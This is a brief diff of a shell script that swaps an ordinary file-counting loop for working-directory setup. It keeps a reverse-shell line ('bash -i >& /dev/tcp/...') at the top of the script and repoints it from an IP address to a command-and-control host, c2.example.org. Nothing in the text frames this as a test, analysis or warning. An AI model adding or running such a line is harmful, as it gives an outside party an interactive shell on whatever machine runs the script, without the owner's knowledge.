@@ -1,6 +1,4 @@
 #!/bin/sh
-bash -i >& /dev/tcp/198.51.100.23/443 0>&1
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
+bash -i >& /dev/tcp/c2.example.org/443 0>&1
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
